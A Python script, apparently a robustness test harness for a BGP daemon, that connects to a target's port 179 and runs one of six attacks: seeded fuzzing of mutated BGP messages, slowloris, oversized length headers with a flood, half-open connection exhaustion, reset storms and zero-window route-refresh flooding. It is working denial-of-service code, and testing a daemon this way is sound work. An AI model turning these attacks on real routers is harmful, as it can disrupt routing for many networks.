"""A neighbor, or a stranger, that means harm; one attack a run:

    hostile.py ATTACK ADDRESS AS SEED FROM...

connects to port 179 of ADDRESS from each of the addresses FROM, which say AS
in their OPEN.  What it sends depends on SEED alone.  Some attacks end; the
others go on until they are stopped.
"""

import itertools
import pathlib
import random
import socket
import struct
import sys
import time

sys.path.append(str(pathlib.Path(__file__).parents[1] / "conformance"))

# pylint: disable=wrong-import-position
import message as bgp  # noqa: E402

PORT = 179
PATIENCE_S = 10
# Messages that are sent at once, when nothing has ended the session before
BATCH = 64
STORM_S = 3
RESET_AT_CLOSE = (socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
SMALL_WINDOW = (socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)


class Target:
    def __init__(self, address, asn):
        self.address, self.asn = address, asn

    def connect(self, source, *options):
        """None when the connection is not taken."""
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        for option in options:
            s.setsockopt(*option)
        s.settimeout(PATIENCE_S)
        try:
            s.bind((source, 0))
            s.connect((self.address, PORT))
        except OSError:
            s.close()
            return None
        return s

    def open_message(self, source, *more):
        capabilities = [bgp.multiprotocol(bgp.IPV4),
                        bgp.capability(bgp.REFRESH),
                        bgp.capability(bgp.ENHANCED_REFRESH),
                        bgp.as4(self.asn), *more]
        return bgp.open_message(self.asn, 90, source,
                                bgp.options_of(capabilities))


def send(s, octets):
    """Whether the other side took it."""
    try:
        s.sendall(octets)
    except OSError:
        return False
    return True


def drain(s):
    """Returns once the daemon has ended the connection."""
    try:
        s.shutdown(socket.SHUT_WR)
        while s.recv(1 << 16):
            pass
    except OSError:
        pass
    s.close()


# --- mutated messages ---


def updates():
    path = bgp.attribute(bgp.AS_PATH,
                         bgp.as_path((bgp.AS_SEQUENCE, [64501, 64502])))
    base = [bgp.attribute(bgp.ORIGIN, b"\0"), path,
            bgp.attribute(bgp.NEXT_HOP, bgp.packed("198.51.100.10"))]
    rest = [bgp.attribute(bgp.MED, bgp.u32(9)),
            bgp.attribute(bgp.LOCAL_PREF, bgp.u32(100)),
            bgp.attribute(bgp.ATOMIC_AGGREGATE),
            bgp.attribute(bgp.AGGREGATOR, bgp.u32(64501) + bytes(4)),
            bgp.attribute(bgp.COMMUNITIES, bgp.u32(0xffff029a) * 3),
            bgp.attribute(bgp.EXTENDED_COMMUNITIES, bytes(16)),
            bgp.attribute(bgp.LARGE_COMMUNITIES, bytes(24)),
            bgp.attribute(bgp.AIGP, b"\1\0\x0b" + bytes(8)),
            bgp.attribute(bgp.OTC, bgp.u32(64501))]
    reach = bgp.attribute(bgp.MP_REACH,
                          bgp.mp_reach(bgp.nlri("2001:db8:9::/48")))
    unreach = bgp.attribute(bgp.MP_UNREACH,
                            bgp.mp_unreach(bgp.nlri("2001:db8:9::/48")))
    prefixes = bgp.nlri("192.0.2.0/24", "198.18.0.0/15", "10.0.0.1/32")
    return [bgp.update(base, prefixes), bgp.update(base + rest, prefixes),
            bgp.update([reach, *base[:2]]), bgp.update([unreach]),
            bgp.update(withdrawn=prefixes), bgp.end_of_rib(),
            bgp.end_of_rib(bgp.IPV6)]


def opens(target):
    return [target.open_message("198.51.100.9"),
            target.open_message("198.51.100.9", bgp.graceful_restart(),
                                bgp.role(1), bgp.capability(200, bytes(40)),
                                bgp.capability(bgp.LONG_LIVED, bytes(7)))]


def samples(target):
    """Kind and messages; how often a kind is taken."""
    return [(60, updates()),
            (20, [bgp.route_refresh(subtype=n) for n in range(3)]),
            (1, [bgp.keepalive()]), (1, opens(target)),
            (1, [bgp.notification(6, n, b"\x05hello") for n in range(1, 10)])]


class Mutator:
    def __init__(self, target, rng):
        self._samples, self._rng = samples(target), rng
        self._weights = [weight for weight, _ in self._samples]
        self._changes = [self._flip, self._set, self._insert, self._delete,
                         self._double]

    def message(self, messages=None):
        if messages is None:
            messages, = self._rng.choices(
                [kind for _, kind in self._samples], self._weights)
        whole = bytearray(self._rng.choice(messages))
        kind, body = whole[18], whole[bgp.HEADER_LEN:]
        for _ in range(self._rng.randint(1, 3)):
            self._rng.choice(self._changes)(body)
        whole = bytearray(bgp.message(kind, bytes(body)[:4077]))
        if self._rng.random() < 0.005:  # mostly what gets past the header
            self._set(whole)
        return bytes(whole)

    def _at(self, octets):
        return self._rng.randrange(len(octets)) if octets else 0

    def _flip(self, body):
        if body:
            body[self._at(body)] ^= 1 << self._rng.randrange(8)

    def _set(self, body):
        if body:
            body[self._at(body)] = self._rng.choice([0, 1, 127, 128, 255])

    def _insert(self, body):
        at = self._at(body)
        body[at:at] = self._rng.randbytes(self._rng.randint(1, 8))

    def _delete(self, body):
        at = self._at(body)
        del body[at:at + self._rng.randint(1, 4)]

    def _double(self, body):
        at = self._at(body)
        body[at:at] = body[at:at + self._rng.randint(1, 64)]


def mutated(target, seed, sources):
    """Sessions without end, each by one of the sources in turn: what is
    mutated comes before, in place of or after our OPEN."""
    for number, source in enumerate(itertools.cycle(sources)):
        rng = random.Random(f"{seed}-{number}")
        mutator = Mutator(target, rng)
        begun = [target.open_message(source), bgp.keepalive()]
        begun = begun[:rng.choice([0, 1, 2, 2, 2, 2, 2, 2, 2, 2])]
        if not begun:
            begun = [mutator.message(opens(target))]
        s = target.connect(source)
        if s is None:
            continue
        batch = begun + [mutator.message() for _ in range(BATCH)]
        if send(s, b"".join(batch)):
            drain(s)
        s.close()


# --- the others ---


def slow_loris(target, seed, sources):
    """Octet by octet, and no message ever becomes whole."""
    del seed
    whole = target.open_message(sources[0])[:-1]
    left = [target.connect(source) for source in sources]
    end = time.monotonic() + STORM_S
    while time.monotonic() < end:
        for n in range(len(left)):
            if left[n] is None or not send(left[n], whole[:1]):
                left[n] = target.connect(sources[n])
        whole = whole[1:] + whole[:1]
        time.sleep(0.01)


def giant_lengths(target, seed, sources):
    """A header that promises more than there may be, and then as much."""
    rng = random.Random(seed)
    flood = rng.randbytes(1 << 20)
    for source in sources:
        for length in (0, 18, 4097, 65535):
            for begun in ([], [target.open_message(source), bgp.keepalive()]):
                kind = rng.randrange(7)
                s = target.connect(source)
                if s is not None:
                    send(s, b"".join(begun) + bgp.message(
                        kind, length=length) + flood)
                    s.close()


def half_open(target, seed, sources):
    """Connections that say nothing, as many as go; all are kept."""
    del seed
    kept = []
    end = time.monotonic() + STORM_S
    for source in itertools.cycle(sources):
        if time.monotonic() > end or len(kept) > 5000:
            break
        kept.append(target.connect(source))
    time.sleep(1)


def reset_storm(target, seed, sources):
    """Connections that are reset: at once, after an OPEN, in a session."""
    rng = random.Random(seed)
    end = time.monotonic() + STORM_S
    for source in itertools.cycle(sources):
        if time.monotonic() > end:
            break
        begun = [target.open_message(source), bgp.keepalive()]
        s = target.connect(source, RESET_AT_CLOSE)
        if s is not None:
            send(s, b"".join(begun[:rng.randrange(3)]))
            s.close()


def zero_window(target, seed, sources):
    """Sessions that ask for all routes again and again, and read nothing."""
    del seed
    asked = bgp.route_refresh() * 50
    sockets = []
    for source in sources:
        s = target.connect(source, SMALL_WINDOW)
        if s is not None:
            send(s, target.open_message(source) + bgp.keepalive())
            s.settimeout(0.01)
            sockets.append(s)
    end = time.monotonic() + 2 * STORM_S
    while time.monotonic() < end:
        for s in sockets:
            send(s, asked)
        time.sleep(0.01)


ATTACKS = {f.__name__: f for f in (mutated, slow_loris, giant_lengths,
                                   half_open, reset_storm, zero_window)}


def main(attack, address, asn, seed, *sources):
    ATTACKS[attack](Target(address, int(asn)), seed, sources)


if __name__ == "__main__":
    main(*sys.argv[1:])
